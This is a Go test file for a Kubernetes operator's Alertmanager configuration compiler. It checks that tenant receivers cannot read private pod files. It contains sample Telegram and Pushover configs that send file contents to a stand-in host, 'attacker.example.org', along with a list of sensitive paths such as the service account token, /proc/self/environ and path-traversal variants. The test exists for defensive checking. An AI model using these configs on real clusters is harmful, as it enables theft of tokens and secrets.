package amconfig

import (
	"strings"
	"testing"

	"github.com/Masterminds/semver/v3"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	v1 "github.com/firekeeper-dev/firekeeper/operator/api/monitoring/v1"
	"github.com/firekeeper-dev/firekeeper/operator/kube/assets"
)

// readers are receivers that read a file and send it to a server of their choice: Telegram
// as a part of the URL, Pushover through a proxy that may terminate TLS.
var readers = map[string]string{
	"botTokenFile": `telegramConfigs: [{chatID: 1, apiURL: "https://attacker.example.org", botTokenFile: "FILE"}]`,
	"tokenFile":    `pushoverConfigs: [{userKey: {name: s, key: key}, tokenFile: "FILE", httpConfig: {proxyURL: "http://attacker.example.org", tlsConfig: {insecureSkipVerify: true}}}]`,
	"userKeyFile":  `pushoverConfigs: [{userKeyFile: "FILE", token: {name: s, key: key}}]`,
}

// TestFilesOfThePod: tenants cannot read the configuration of others or the pod's token.
func TestFilesOfThePod(t *testing.T) {
	var objects assets.Static
	for _, namespace := range []string{"team", "default"} {
		objects.AddSecret(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "s"}, StringData: map[string]string{"key": "hunter2"}})
	}
	for file, want := range map[string]error{
		"/etc/alertmanager/config_out/alertmanager.env.yaml":            errPrivateFile,
		"/etc/alertmanager/config/alertmanager.yaml.gz":                 errPrivateFile,
		"/etc/alertmanager/certs/0_other_tls_tls.key":                   errPrivateFile,
		"/etc/alertmanager/web_config/web-config.yaml":                  errPrivateFile,
		"/etc/alertmanager/cluster_tls_config/cluster-tls-config.yaml":  errPrivateFile,
		"/alertmanager/silences":                                        errPrivateFile,
		"/var/run/secrets/kubernetes.io/serviceaccount/token":           errPrivateFile,
		"/run/secrets/kubernetes.io/serviceaccount/token":               errPrivateFile,
		"/proc/self/environ":                                            errPrivateFile,
		"/proc":                                                         errPrivateFile,
		"/etc/alertmanager/secrets/../config_out/alertmanager.env.yaml": errFilePath,
		"/etc//alertmanager/config_out/alertmanager.env.yaml":           errFilePath,
		"/etc/alertmanager/./config_out/alertmanager.env.yaml":          errFilePath,
		"config_out/alertmanager.env.yaml":                              errFilePath,
		"../var/run/secrets/kubernetes.io/serviceaccount/token":         errFilePath,
		"/etc/alertmanager/secrets/telegram/token":                      nil,
		"/etc/alertmanager/configmaps/telegram/token":                   nil,
		"/etc/alertmanager/config-of-a-user/token":                      nil,
		"/vault/secrets/token":                                          nil,
	} {
		for field, receiver := range readers {
			spec := `{route: {receiver: r}, receivers: [{name: r, ` + strings.ReplaceAll(receiver, "FILE", file) + `}]}`
			err := Compile(configOf(t, spec), settingsOf(newestVersion, Globals{}), &objects).Err
			switch {
			case want == nil && err != nil:
				t.Errorf("%s %s: %v", field, file, err)
			case want != nil && (err == nil || !strings.HasSuffix(err.Error(), "[0]."+field+": "+want.Error())):
				t.Errorf("%s %s: got %v, want %v", field, file, err, want)
			}
			if strings.HasPrefix(file, "/proc") {
				continue
			}
			base := configOf(t, spec)
			base.Namespace = "default"
			am := &v1.Alertmanager{ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "main"}}
			am.Spec.AlertmanagerConfiguration = &v1.AlertmanagerConfiguration{Name: base.Name}
			if _, err := CompileBase(am, semver.MustParse(newestVersion), Base{Config: base}, &objects); err != nil {
				t.Errorf("as the base, %s %s: %v", field, file, err)
			}
		}
	}
}
